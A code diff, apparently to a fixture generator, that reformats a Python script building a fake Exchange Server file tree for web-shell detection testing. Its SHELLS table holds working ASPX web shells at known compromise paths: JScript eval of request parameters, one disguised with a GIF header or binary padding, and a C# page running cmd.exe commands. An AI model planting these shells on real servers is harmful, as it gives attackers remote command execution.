@@ -18,8 +18,7 @@ EXCHANGE = "C/Program Files/Microsoft/Exchange Server/V15"
 FOLDERS = [
     (f"{EXCHANGE}/ClientAccess/ecp/{{sub}}", (".aspx", ".ascx", ".js", ".css", ".config"), 0.30),
     (f"{EXCHANGE}/ClientAccess/owa/prem/15.1.2176.2/scripts/{{sub}}", (".js", ".css", ".htm"), 0.25),
-    (f"{EXCHANGE}/FrontEnd/HttpProxy/owa/auth/15.1.2176/themes/{{sub}}",
-     (".png", ".gif", ".css", ".js"), 0.05),
+    (f"{EXCHANGE}/FrontEnd/HttpProxy/owa/auth/15.1.2176/themes/{{sub}}", (".png", ".gif", ".css", ".js"), 0.05),
     (f"{EXCHANGE}/bin/{{sub}}", (".dll", ".xml", ".config"), 0.15),
     ("C/inetpub/wwwroot/{sub}", (".aspx", ".htm", ".js", ".css"), 0.05),
     ("C/ProgramData/Vendor{n}/{sub}", (".log", ".xml", ".zip", ".dat"), 0.10),
@@ -31,23 +30,20 @@ PAGE = (
     '<%@ Page Language="C#" AutoEventWireup="true"'
     ' Inherits="Microsoft.Exchange.Management.ControlPanel.{name}" %>\n'
     '<%@ Register TagPrefix="ecp" Namespace="Microsoft.Exchange.Management.ControlPanel" %>\n'
-    "<asp:Content ID=\"c{n}\" ContentPlaceHolderID=\"ResultPanePlaceHolder\" runat=\"server\">\n"
+    '<asp:Content ID="c{n}" ContentPlaceHolderID="ResultPanePlaceHolder" runat="server">\n'
     '  <ecp:ListView ID="listView{n}" runat="server" SearchTextMaxLength="256" />\n'
     "</asp:Content>\n"
 )
-SCRIPT = ("function {name}(a, b) {{ var x = a + b * {n};"
-          " if (x > {n}) {{ return Owa.Util.format('{name}', x); }} }}\n")
+SCRIPT = "function {name}(a, b) {{ var x = a + b * {n}; if (x > {n}) {{ return Owa.Util.format('{name}', x); }} }}\n"
 SHELLS = {
-    f"{EXCHANGE}/FrontEnd/HttpProxy/owa/auth/RedirSuiteServerProxy.aspx":
-        b'<%@ Page Language="Jscript"%><%eval(Request.Item["k"],"unsafe");%>',
-    "C/inetpub/wwwroot/aspnet_client/system_web/zxvt0lpt.aspx":
-        b'GIF89a\n<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>',
-    "C/inetpub/wwwroot/aspnet_client/HWTJQDMFVMPOON.aspx":
-        b"!BDN" + bytes(range(256)) * 4 + b'<script language="JScript" runat="server">function Page_Load()'
-        b'{eval(Request["exec_code"],"unsafe");}</script>' + bytes(range(256)) * 4,
-    f"{EXCHANGE}/FrontEnd/HttpProxy/ecp/auth/w.aspx":
-        b'<%@ Page Language="C#" %><% var p = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + '
-        b'Request["c"]); p.RedirectStandardOutput = true; %>',
+    f"{EXCHANGE}/FrontEnd/HttpProxy/owa/auth/RedirSuiteServerProxy.aspx": b'<%@ Page Language="Jscript"%><%eval(Request.Item["k"],"unsafe");%>',
+    "C/inetpub/wwwroot/aspnet_client/system_web/zxvt0lpt.aspx": b'GIF89a\n<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>',
+    "C/inetpub/wwwroot/aspnet_client/HWTJQDMFVMPOON.aspx": b"!BDN"
+    + bytes(range(256)) * 4
+    + b'<script language="JScript" runat="server">function Page_Load()'
+    b'{eval(Request["exec_code"],"unsafe");}</script>' + bytes(range(256)) * 4,
+    f"{EXCHANGE}/FrontEnd/HttpProxy/ecp/auth/w.aspx": b'<%@ Page Language="C#" %><% var p = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + '
+    b'Request["c"]); p.RedirectStandardOutput = true; %>',
     "C/ProgramData/it.zip": b"PK\x03\x04" + bytes(range(256)) * 64,
 }
 
